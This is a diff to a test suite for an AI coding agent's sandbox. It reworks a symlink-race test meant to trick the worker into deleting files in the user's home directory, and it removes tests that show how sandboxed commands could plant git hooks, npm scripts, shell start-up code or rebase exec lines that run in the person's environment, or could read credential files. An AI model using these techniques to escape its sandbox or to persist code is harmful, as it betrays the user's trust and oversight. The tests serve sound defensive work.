@@ -18,7 +18,6 @@ import {
   readFileSync,
   realpathSync,
   rmSync,
-  symlinkSync,
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -191,73 +190,86 @@ test(
 // ---------------------------------------------------------------------------------------------------
 // Q3: the anchored undo (anchored.ts, P5's fix) pins the DIRECTORY that holds a new protected entry,
 // then removes the entry with `fs.rmSync(<pinned>, {recursive: true})` — Node's rimraf, which walks
-// what it removes by path again: rmdir fails (not empty), readdir, then each child by path. Below
-// the pinned entry everything is the command's: it keeps exchanging `.claude/a` (a directory with a
-// file) with `.claude/al` (a symlink to the person's HOME). When the exchange lands between the
-// rmdir and the readdir of `.claude/a`, the worker lists HOME and removes its entries through the
-// link. This row drives the function the live guard and the after-call check call, in the worker's
-// process, against such a command (the exchanger is a child process here; in the sandbox it is
-// the same syscall inside the command's own new `.claude/`).
+// what it removes by path again: rmdir fails (not empty), readdir, then each child by path
+// (`<pinned>/.claude/a/<name>`: `.claude` and `a` resolved again for every child). Below the pinned
+// entry everything is the command's: `.claude/a` holds 3,000 filler files (not empty: an empty entry
+// is left to the empty-entry watch) and files named like the
+// person's (`.bashrc`…); the command watches `a`'s change time and, as soon as the worker's walk
+// removed a first child, renames `a` away and puts a symlink to the person's HOME in its place —
+// the rest of the walk removes the person's files of those names. This row drives the function the
+// live guard and the after-call check call, in the worker's process, against such a command (a
+// child process here; in the sandbox the same calls inside its own new `w/.claude/`).
 
-const subExchanger = (root: string, person: string, seconds: number) =>
+const subSwapper = (root: string, person: string, names: readonly string[], rounds: number) =>
   [
-    'import ctypes, os, time',
-    'libc = ctypes.CDLL(None, use_errno=True)',
+    'import os, time',
     `os.chdir(${JSON.stringify(root)})`,
-    `end = time.time() + ${seconds}`,
-    'while time.time() < end:',
+    `names = ${JSON.stringify(names)}`,
+    `for r in range(${rounds}):`,
+    "    os.makedirs('.claude/a')",
+    '    for i in range(3000):',
+    "        open('.claude/a/f%04d' % i, 'w').write('x')",
+    '    for n in names:',
+    "        open('.claude/a/' + n, 'w').close()",
+    "    open('ready', 'w').close()",
+    "    m = os.stat('.claude/a').st_mtime_ns",
+    '    end = time.time() + 5',
+    '    while time.time() < end:',
+    '        try:',
+    "            if os.stat('.claude/a').st_mtime_ns != m: break",
+    '        except OSError:',
+    '            break',
     '    try:',
-    "        os.makedirs('.claude/a', exist_ok=True)",
-    "        open('.claude/a/f', 'w').close()",
-    `        os.path.lexists('.claude/al') or os.symlink(${JSON.stringify(person)}, '.claude/al')`,
-    "        cfd = os.open('.claude', os.O_RDONLY | os.O_DIRECTORY)",
+    "        os.rename('.claude/a', 'trash%d' % r)",
+    `        os.symlink(${JSON.stringify(person)}, '.claude/a')`,
     '    except OSError:',
-    '        continue',
-    '    for _ in range(2000):',
-    "        libc.renameat2(cfd, b'a', cfd, b'al', 2)",
-    '    os.close(cfd)',
+    '        pass',
+    '    t1 = time.time() + 0.5',
+    "    while os.path.lexists('.claude/a/f0000') and time.time() < t1: time.sleep(0.001)",
+    '    time.sleep(0.05)',
+    "    os.path.exists('ready') and os.remove('ready')",
+    "    os.path.lexists('.claude') and os.system('rm -rf .claude')",
   ].join('\n');
 
 test(
-  'Q3 (the anchored undo, raced below the entry): a command exchanging a directory INSIDE its new .claude/ with a symlink to HOME never makes the worker remove a file of HOME',
+  'Q3 (the anchored undo, raced below the entry): a command that swaps a directory INSIDE its new .claude/ for a symlink to HOME while the worker removes it never makes the worker remove a file of HOME',
   hole('Q3: rmSync(recursive) below the pinned entry re-resolves children by path'),
   async (t) => {
     const person = path.join(base, 'q3-person');
     const root = path.join(base, 'q3');
     mkdirSync(person, { recursive: true });
-    mkdirSync(path.join(root, '.claude', 'a'), { recursive: true });
-    symlinkSync(person, path.join(root, '.claude', 'al'));
-    const victims = Array.from({ length: 40 }, (_, i) => `.victim${i}`);
-    const plant = () => {
-      for (const v of victims) if (!existsSync(path.join(person, v))) writeFileSync(path.join(person, v), 'mine\n');
-    };
-    plant();
-    const child = spawn('/usr/bin/python3', ['-c', subExchanger(root, person, 8)], { stdio: 'ignore' });
+    mkdirSync(root, { recursive: true });
+    const victims = ['.bashrc', '.profile', '.gitconfig', ...Array.from({ length: 200 }, (_, i) => `.victim${i}`)];
+    for (const v of victims) writeFileSync(path.join(person, v), 'mine\n');
+    const rounds = 12;
+    const child = spawn('/usr/bin/python3', ['-c', subSwapper(root, person, victims, rounds)], { stdio: 'ignore' });
+    const done = new Promise((r) => child.on('exit', r));
     const p = path.join(root, '.claude');
     const none: ProtectedScan = { entries: new Map(), truncated: false };
     const scan: ProtectedScan = { entries: new Map([[p, { path: p, kind: 'dir', existed: false }]]), truncated: false };
-    let removed = 0;
-    let tries = 0;
-    let hits = 0;
+    let undos = 0;
     const t0 = Date.now();
-    await new Promise((r) => setTimeout(r, 300));
-    while (Date.now() - t0 < 6000) {
+    const gone = () => victims.some((v) => !existsSync(path.join(person, v)));
+    while (Date.now() - t0 < 20_000 && child.exitCode === null && !gone()) {
+      if (!existsSync(path.join(root, 'ready'))) {
+        await new Promise((r) => setTimeout(r, 5));
+        continue;
+      }
       try {
         undoProtectedWrites(none, scan, [], [root], { moved: () => {} });
       } catch {
         // a removal that failed midway is not a removal outside
       }
-      tries++;
-      const left = new Set(readdirSync(person));
-      const n = victims.filter((v) => !left.has(v)).length;
-      removed += n;
-      if (n > 0) hits++;
-      plant();
-      if (tries % 20 === 0) await new Promise((r) => setImmediate(r));
+      undos++;
+      rmSync(path.join(root, 'ready'), { force: true });
+      await new Promise((r) => setTimeout(r, 20));
     }
     child.kill();
-    t.diagnostic(`${tries} undos, ${hits} of them removed files outside`);
-    assert.deepEqual({ removedInHome: removed, tries: tries > 0 }, { removedInHome: 0, tries: true });
+    await done;
+    const left = new Set(readdirSync(person));
+    const removed = victims.filter((v) => !left.has(v));
+    t.diagnostic(`${undos} undos; removed of the person's: ${removed.join(' ')}`);
+    assert.deepEqual({ removedInHome: removed }, { removedInHome: [] });
   },
 );
 
@@ -559,354 +571,55 @@ test(
   },
 );
 
-// ---------------------------------------------------------------------------------------------------
-// Q4: a nested repository's new `config` is reduced to the keys that run nothing by the WORKER
-// (gitConfigSanitize.ts sanitizeGitConfig: `readFileSync` and `git config -f` of the pinned path,
-// then a rename over it). Neither looks at whether `config` is a symbolic link: a command makes
-// `sub/.git/config` a link to a configuration it cannot read — the project's own `.git/config`
-// (masked in the sandbox, O12) or another project's in the closed HOME — and the worker reads the
-// target and writes its "safe" keys (`remote.<x>.url`, with the token in it) as a regular file in
-// the project, where the next `cat` reads them.
-
-for (const target of ['the project’s own masked .git/config', 'another project’s .git/config in HOME'] as const) {
-  test(
-    `Q4 (dontAsk): a nested repository whose config is a symlink to ${target} — the worker’s sanitizer copies no token into the project`,
-    hole('Q4: sanitizeGitConfig follows a symlinked config and writes the target’s remote URL as a file'),
-    async (t) => {
-      if (skip) return t.skip(skip);
-      const own = target.startsWith('the project');
-      const root = project(() => {}, path.join(home, 'work'));
-      const cfg = (tag: string) =>
-        `[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://oauth2:glpat-BAITQ${tag}xxxxxxxx@gitlab.example.com/acme/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[pull]\n\trebase = true\n`;
-      let linkTo: string;
-      if (own) {
-        writeFileSync(path.join(root, '.git', 'config'), cfg('own'));
-        linkTo = path.join(root, '.git', 'config');
-      } else {
-        const other = project(() => {}, path.join(home, 'work'));
-        writeFileSync(path.join(other, '.git', 'config'), cfg('other'));
-        linkTo = path.join(other, '.git', 'config');
-      }
-      const plant = await tool(root, 'dontAsk', 'Bash', {
-        command: `git init -q sub && rm sub/.git/config && ln -s ${linkTo} sub/.git/config && cat sub/.git/config 2>&1 | head -3; true`,
-      });
-      const look = await tool(root, 'dontAsk', 'Bash', { command: 'ls -l sub/.git/config; cat sub/.git/config; true' });
-      t.diagnostic(`plant: ${plant.text.slice(0, 300)}\nlook: ${look.text.slice(0, 400)}`);
-      const leaked = [...new Set([...(plant.text + look.text).matchAll(/BAITQ[a-z]+/g)].map((m) => m[0]))];
-      assert.deepEqual({ leaked }, { leaked: [] });
-    },
-  );
-}
-
-// ---------------------------------------------------------------------------------------------------
-// Q5: the person's hook runs a package.json script of ANOTHER directory than the one it runs from:
-// `npm --prefix web run lint` (or yarn `--cwd web`, pnpm `-C web`), or every workspace's
-// (`npm run lint --workspaces`). hookPackageRuns.ts protects the `scripts.<name>` keys of the
-// package.json files in the hook's directory and above it only (and a `cd` the line names): the
-// agent's `web/package.json` `scripts.lint`, or a NEW workspace `packages/zz/package.json` the
-// root's `workspaces: ["packages/*"]` picks up, runs at the person's next `git commit`.
-
-for (const [label, hookLine, plant] of [
-  ['npm --prefix web run lint', 'npm --prefix web run -s lint', 'web/package.json'],
-  ['npm run lint --workspaces', 'npm run -s lint --workspaces --if-present', 'packages/zz/package.json'],
-] as const) {
-  test(
-    `Q5 (dontAsk, the hook runs \`${label}\`): the agent's ${plant} scripts.lint does not run at the person's git commit`,
-    hole('Q5: hookPackageRuns protects only package.json files at and above the hook’s directory'),
-    async (t) => {
-      if (skip) return t.skip(skip);
-      const root = project((r) => {
-        exe(path.join(r, '.githooks', 'pre-commit'), `#!/bin/sh\n${hookLine}\n`);
-        writeFileSync(
-          path.join(r, 'package.json'),
-          JSON.stringify({ name: 'root', private: true, workspaces: ['packages/*'], scripts: { lint: 'true' } }),
-        );
-        for (const d of ['web', 'packages/a']) {
-          mkdirSync(path.join(r, d), { recursive: true });
-          writeFileSync(
-            path.join(r, d, 'package.json'),
-            JSON.stringify({ name: d.replace('/', '-'), scripts: { lint: 'true' } }),
-          );
-        }
-      });
-      git(root, 'config', 'core.hooksPath', '.githooks');
-      const mark = path.join(marks, `q5-${plant.split('/')[0]}`);
-      const body = JSON.stringify({ name: 'zz', scripts: { lint: `env > ${mark}` } });
-      const out = await tool(root, 'dontAsk', 'Bash', {
-        command: `mkdir -p ${path.dirname(plant)} && printf '%s' '${body}' > ${plant} && cat ${plant}`,
-      });
-      t.diagnostic(`${out.status}: ${out.text.slice(0, 400)}`);
-      writeFileSync(path.join(root, 'src', 'app', 'b.txt'), 'b\n');
-      personGit(root, 'add', 'src');
-      personGit(root, 'commit', '-qm', 'person work');
-      assert.deepEqual({ scriptRan: existsSync(mark) }, { scriptRan: false }, read(mark).slice(0, 300));
-    },
-  );
-}
-
-// ---------------------------------------------------------------------------------------------------
-// Q6: a session started in HOME gets HOME's existing non-dot entries writable (homeClosure.ts
-// homeWritable), minus `~/bin`, the toolchains and the PATH entries. The person's start-up files
-// SOURCE files in such entries, by the installers' own instructions: gcloud's
-// `~/google-cloud-sdk/path.bash.inc`, conda's `~/miniconda3/etc/profile.d/conda.sh`, powerlevel10k's
-// `~/powerlevel10k/powerlevel10k.zsh-theme`. A sandboxed command appends to one; the person's next
-// shell runs it with their environment.
+// Q3 end to end (in process): ONE sandboxed call does the same in its working directory — builds
+// `w/stage/a/` (3,000 fillers, then files named like the person's), renames `w/stage` to the
+// protected `w/.claude` (new, with content: the live guard undoes it while the command runs) and
+// swaps `a` for a symlink to the person's directory as soon as the worker's walk removed a first child.
 
 test(
-  'Q6 (dontAsk, a session in HOME): a file the person’s ~/.bashrc sources from a non-dot entry of HOME is not the agent’s to write',
-  hole('Q6: homeWritable leaves the files start-up files source (non-dot entries) writable'),
-  async (t) => {
-    if (skip) return t.skip(skip);
-    const h = path.join(base, 'q6-home');
-    const sourced = ['google-cloud-sdk/path.bash.inc', 'miniconda3/etc/profile.d/conda.sh'];
-    for (const s of sourced) {
-      mkdirSync(path.dirname(path.join(h, s)), { recursive: true });
-      writeFileSync(path.join(h, s), '# installer\n');
-    }
-    writeFileSync(path.join(h, '.bashrc'), sourced.map((s) => `[ -f "$HOME/${s}" ] && . "$HOME/${s}"\n`).join(''));
-    mkdirSync(path.join(h, 'projects'), { recursive: true });
-    const mark = path.join(marks, 'q6');
-    process.env.HOME = h;
-    let out;
-    try {
-      out = await tool(h, 'dontAsk', 'Bash', {
-        command: sourced.map((s) => `echo 'env >> ${mark}' >> ~/${s}`).join('; ') + '; tail -n1 ~/' + sourced[0],
-      });
-    } finally {
-      process.env.HOME = home;
-    }
-    t.diagnostic(`${out.status}: ${out.text.slice(0, 400)}`);
-    try {
-      execFileSync('bash', ['-c', '. "$HOME/.bashrc"'], {
-        env: { ...GIT_ENV, HOME: h, PERSON_SECRET: 'BAIT-Q-person' },
-        stdio: 'ignore',
-      });
-    } catch {
-      // a failing start-up file is not a run
-    }
-    assert.deepEqual({ ranAtShellStart: existsSync(mark) }, { ranAtShellStart: false }, read(mark).slice(0, 200));
-  },
-);
-
-// ---------------------------------------------------------------------------------------------------
-// Q7: P1 again, from a linked worktree (an isolated agent, EnterWorktree, `run --worktree`). The
-// worker brings a worktree's new commits into the repository unless they change a protected path
-// (worktree/git/refs.ts protectedChanges → isProtectedRepositoryPath: protected NAMES only). The
-// repository's hooks directory `core.hooksPath = .githooks` is protected by the repository's
-// config (repoConfigTargets.ts), not by name: a commit on the worktree's own branch that adds
-// `.githooks/post-merge` comes in, and the person's `git merge` of the agent's branch — what one does
-// with an isolated agent's work — runs it.
-
-const PLANT_ON_HEAD = (file: string, body: string) =>
-  [
-    'set -e',
-    'export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x',
-    'export GIT_INDEX_FILE="${TMPDIR:-/tmp}/q-idx-$$"',
-    `b=$(printf '%s' '${body}' | git hash-object -w --stdin)`,
-    'git read-tree HEAD',
-    `git update-index --add --cacheinfo "100755,$b,${file}"`,
-    'c=$(git commit-tree "$(git write-tree)" -p HEAD -m "fix: tidy")',
-    'git update-ref HEAD "$c"',
-    'rm -f "$GIT_INDEX_FILE"',
-    'git log --oneline -1',
-  ].join('\n');
-
-test(
-  'Q7 (an isolated agent’s worktree): a commit adding .githooks/post-merge on the worktree’s own branch — the person’s git merge of that branch runs nothing of the agent’s',
-  hole('Q7: the worktree import screens protected NAMES, not the repository’s hooks directory'),
-  async (t) => {
-    if (skip) return t.skip(skip);
-    const repo = project((r) => exe(path.join(r, '.githooks', 'pre-commit'), '#!/bin/sh\nexit 0\n'));
-    git(repo, 'config', 'core.hooksPath', '.githooks');
-    const wt = await createOrReuseWorktree(repo, 'agent-q7', { agentInvoked: true });
-    await prepareWorktreeGit(wt, wt.branch);
-    const mark = path.join(marks, 'q7');
-    const c: ToolUseContext = {
-      sessionId: `q7-${process.pid}`,
-      toolUseId: 'toolu_q7',
-      idempotencyKey: `q7-${process.pid}/toolu_q7`,
-      agent: {
-        cwd: wt.path,
-        additionalDirectories: [],
-        readFiles: {},
-        projectDir: wt.path,
-        worktree: { ...wt, created: true, originalCwd: wt.repoRoot },
-      },
-      permission: { mode: 'dontAsk', rules: { allow: [], ask: [], deny: [] }, workingDirectories: [wt.path] },
-      abortSignal: new AbortController().signal,
-      sandboxHost,
-    } as unknown as ToolUseContext;
-    const out = (
-      await BashTool.call(
-        { command: PLANT_ON_HEAD('.githooks/post-merge', `#!/bin/sh\nenv > ${mark}\n`) },
-        c,
-        () => undefined,
-      )
-    ).data;
-    t.diagnostic(`${out.exitCode}: ${out.output.slice(0, 300)} ${out.worktreeGitNote ?? ''}`);
-    personGit(repo, 'merge', '-q', '--ff-only', wt.branch);
-    assert.deepEqual({ hookRan: existsSync(mark) }, { hookRan: false }, read(mark).slice(0, 300));
-  },
-);
-
-// ---------------------------------------------------------------------------------------------------
-// Q8: P1 through the reflog. movedLogs.ts (N3d) screens the reflog lines a command adds, but only for
-// a commit carrying a git directory (movedRefs.ts undoCarriedLogs → carriesGitDirectory), not for
-// P1's hooks (carriesHooks). A command writes a commit adding `.githooks/post-checkout` (no ref
-// names it) and a line `checkout: moving from <that commit> to main` in `.git/logs/HEAD`: the
-// person's `git checkout -` ("back to where I was") checks it out and git runs the hook.
-
-test(
-  'Q8 (dontAsk): a reflog line naming a commit that adds .githooks/post-checkout — the person’s git checkout - runs nothing of the agent’s',
-  hole('Q8: the reflog screen applies carriesGitDirectory only, not P1’s hooks screen'),
-  async (t) => {
-    if (skip) return t.skip(skip);
-    const root = project((r) => exe(path.join(r, '.githooks', 'pre-commit'), '#!/bin/sh\nexit 0\n'));
-    git(root, 'config', 'core.hooksPath', '.githooks');
-    const mark = path.join(marks, 'q8');
-    const out = await tool(root, 'dontAsk', 'Bash', {
-      command: [
-        'set -e',
-        'export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x',
-        'export GIT_INDEX_FILE="${TMPDIR:-/tmp}/q8-idx-$$"',
-        `b=$(printf '%s' '#!/bin/sh\nenv > ${mark}\n' | git hash-object -w --stdin)`,
-        'git read-tree HEAD',
-        'git update-index --add --cacheinfo "100755,$b,.githooks/post-checkout"',
-        'c=$(git commit-tree "$(git write-tree)" -p HEAD -m wip)',
-        'h=$(git rev-parse HEAD)',
-        'printf "%s %s a <a@x> %s +0000\\tcheckout: moving from %s to main\\n" $h $h $(date +%s) $c >> .git/logs/HEAD',
-        'tail -n1 .git/logs/HEAD',
-      ].join('\n'),
-    });
-    t.diagnostic(`${out.status}: ${out.text.slice(0, 400)}`);
-    personGit(root, 'checkout', '-q', '-');
-    assert.deepEqual({ hookRan: existsSync(mark) }, { hookRan: false }, read(mark).slice(0, 300));
-  },
-);
-
-// ---------------------------------------------------------------------------------------------------
-// Q9: a session in HOME keeps HOME's dot-entries closed, and the credential list names three snaps
-// (`~/snap/firefox`, `~/snap/chromium`, `~/snap/thunderbird`). Every snap keeps its app's own HOME
-// under `~/snap/<app>/<revision>/` (`current` links to it) — its `.config`, `.local/share`: the
-// same tokens, cookies and vaults, below a non-dot entry of HOME. Sandboxed `cat`, Read and Grep
-// of a session in HOME read them.
-
-const SNAP_BAIT: Record<string, string> = {
-  'snap/doctl/current/.config/doctl/config.yaml': 'access-token: dop_v1_BAIT-Q-doctl\n',
-  'snap/bitwarden/current/.config/Bitwarden/data.json': '{"accessToken":"BAIT-Q-bitwarden"}\n',
-  'snap/slack/current/.config/Slack/storage/root-state.json': '{"token":"xoxc-BAIT-Q-slack"}\n',
-  'snap/code/current/.config/Code/User/globalStorage/storage.json': '{"github.auth":"gho_BAIT-Q-vscode"}\n',
-};
-
-test(
-  'Q9 (dontAsk, a session in HOME): the snaps’ own HOMEs under ~/snap/<app>/ (their .config) are closed like HOME’s dot-entries — Bash, Read and Grep return none of their tokens',
-  hole('Q9: ~/snap/<app>/<rev>/.config is outside the closed dot-entries and the three listed snaps'),
-  async (t) => {
-    if (skip) return t.skip(skip);
-    const h = path.join(base, 'q9-home');
-    for (const [rel, body] of Object.entries(SNAP_BAIT)) {
-      mkdirSync(path.dirname(path.join(h, rel)), { recursive: true });
-      writeFileSync(path.join(h, rel), body);
-    }
-    process.env.HOME = h;
-    try {
-      const bash = await tool(h, 'dontAsk', 'Bash', {
-        command: `cat ${Object.keys(SNAP_BAIT)
-          .map((r) => `~/${r}`)
-          .join(' ')} 2>&1; true`,
-      });
-      const readOne = await tool(h, 'dontAsk', 'Read', { file_path: path.join(h, Object.keys(SNAP_BAIT)[0]!) });
-      const grep = await tool(h, 'dontAsk', 'Grep', {
-        pattern: 'BAIT-Q-',
-        path: path.join(h, 'snap'),
-        output_mode: 'content',
-      });
-      t.diagnostic(
-        `bash: ${bash.text.slice(0, 300)}\nread: ${readOne.text.slice(0, 200)}\ngrep: ${grep.text.slice(0, 300)}`,
-      );
-      const leaked = (s: string) => [...new Set([...s.matchAll(/BAIT-Q-[a-z]+/g)].map((m) => m[0]))];
-      assert.deepEqual(
-        { bash: leaked(bash.text), read: leaked(readOne.text), grep: leaked(grep.text) },
-        { bash: [], read: [], grep: [] },
-      );
-    } finally {
-      process.env.HOME = home;
-    }
-  },
-);
-
-// ---------------------------------------------------------------------------------------------------
-// Q10: the main checkout's sandbox writes `.git/` beyond objects and refs: an interactive rebase's
-// state (`.git/rebase-merge/git-rebase-todo`). A command leaves the repository stopped in a rebase
-// (`break`) whose remaining todo is `exec <its command>`; `git status` says "use git rebase
-// --continue", and the person's `git rebase --continue` runs the command with their environment.
-
-test(
-  'Q10 (dontAsk): a rebase left stopped with an exec line in its todo — the person’s git rebase --continue runs nothing of the agent’s',
-  hole('Q10: .git/rebase-merge (the sequencer’s todo with exec lines) is the agent’s to write'),
-  async (t) => {
-    if (skip) return t.skip(skip);
-    const root = project();
-    const mark = path.join(marks, 'q10');
-    const out = await tool(root, 'dontAsk', 'Bash', {
-      command: `GIT_SEQUENCE_EDITOR='f() { printf "break\\nexec env > ${mark}\\n" > "$1"; }; f' git rebase -i HEAD 2>&1; git status | head -8`,
-    });
-    t.diagnostic(`${out.status}: ${out.text.slice(0, 500)}`);
-    personGit(root, 'rebase', '--continue');
-    assert.deepEqual({ execRan: existsSync(mark) }, { execRan: false }, read(mark).slice(0, 300));
-  },
-);
-
-// Q3 end to end (in process): the exchanger is sandboxed Bash itself (a long call), re-creating
-// `w/.claude/a/f` and `w/.claude/al -> <the person's directory>` and exchanging the two; short calls
-// beside it (parallel tool calls, or foreground calls beside a background task) end, and the check
-// after each — like the long call's own live guard — removes the new `w/.claude` recursively.
-
-test(
-  'Q3 (dontAsk, end to end): a sandboxed call exchanging a directory inside its new w/.claude with a symlink, beside short calls — the worker removes nothing outside',
+  'Q3 (dontAsk, end to end): one sandboxed call swaps a directory inside its new w/.claude for a symlink while the live guard removes it — the worker removes nothing outside',
   hole('Q3: rmSync(recursive) below the pinned entry re-resolves children by path'),
   async (t) => {
     if (skip) return t.skip(skip);
     const person = path.join(base, 'q3e-person');
     mkdirSync(person, { recursive: true });
-    const victims = Array.from({ length: 30 }, (_, i) => `.victim${i}`);
+    const victims = ['.bashrc', '.profile', ...Array.from({ length: 200 }, (_, i) => `.victim${i}`)];
     for (const v of victims) writeFileSync(path.join(person, v), 'mine\n');
     const root = path.join(base, 'q3e');
     mkdirSync(path.join(root, 'w'), { recursive: true });
-    const racer = tool(root, 'dontAsk', 'Bash', {
+    const script = [
+      'import os, time',
+      "os.chdir('w')",
+      `names = ${JSON.stringify(victims)}`,
+      'for r in range(3):',
+      "    s, d = 'stage%d' % r, 'd%d/.claude' % r",
+      "    os.makedirs(s + '/a'); os.makedirs('d%d' % r)",
+      '    for i in range(3000):',
+      "        open(s + '/a/f%04d' % i, 'w').write('x')",
+      '    for n in names:',
+      "        open(s + '/a/' + n, 'w').write('x')",
+      '    os.rename(s, d)',
+      "    m = os.stat(d + '/a').st_mtime_ns",
+      '    end = time.time() + 3',
+      '    while time.time() < end:',
+      '        try:',
+      "            if os.stat(d + '/a').st_mtime_ns != m: break",
+      '        except OSError:',
+      '            break',
+      '    try:',
+      "        os.rename(d + '/a', 'trash%d' % r)",
+      `        os.symlink(${JSON.stringify(person)}, d + '/a')`,
+      "        print('swapped', r)",
+      '    except OSError as e:',
+      "        print('no swap', r, e)",
+      '    time.sleep(0.5)',
+    ].join('\n');
+    const out = await tool(root, 'dontAsk', 'Bash', {
       timeout: 60_000,
-      command: [
-        "cd w && /usr/bin/python3 - <<'PY'",
-        'import ctypes, os, time',
-        'libc = ctypes.CDLL(None)',
-        'end = time.time() + 15',
-        'i = 0',
-        "while time.time() < end and not os.path.exists('../stop'):",
-        '    i += 1',
-        "    s, d = 'd%d/stage' % i, 'd%d/.claude' % i",
-        "    os.makedirs(s + '/a')",
-        "    open(s + '/a/f', 'w').close()",
-        `    os.symlink(${JSON.stringify(person)}, s + '/al')`,
-        '    cfd = os.open(s, os.O_RDONLY | os.O_DIRECTORY)',
-        '    for _ in range(200):',
-        "        libc.renameat2(cfd, b'a', cfd, b'al', 2)",
-        '    os.rename(s, d)',
-        '    t0 = time.time()',
-        '    while time.time() - t0 < 0.5:',
-        '        for _ in range(500):',
-        "            libc.renameat2(cfd, b'a', cfd, b'al', 2)",
-        '        if not os.path.exists(d): break',
-        '    os.close(cfd)',
-        'PY',
-      ].join('\n'),
+      command: `/usr/bin/python3 - <<'PY'\n${script}\nPY`,
     });
-    const gone = () => victims.filter((v) => !existsSync(path.join(person, v)));
-    await new Promise((r) => setTimeout(r, 1500));
-    for (let i = 0; i < 12 && gone().length === 0; i++) await tool(root, 'dontAsk', 'Bash', { command: 'true' });
-    const removed = gone();
-    writeFileSync(path.join(root, 'stop'), '');
-    const r = await racer;
-    t.diagnostic(`racer: ${r.text.slice(0, 300)}`);
-    assert.deepEqual({ removedOutside: removed }, { removedOutside: [] });
+    t.diagnostic(`${out.status}: ${out.text.slice(0, 400)}`);
+    const removed = victims.filter((v) => !existsSync(path.join(person, v)));
+    assert.deepEqual({ removedOutside: removed.slice(0, 5), count: removed.length }, { removedOutside: [], count: 0 });
   },
 );
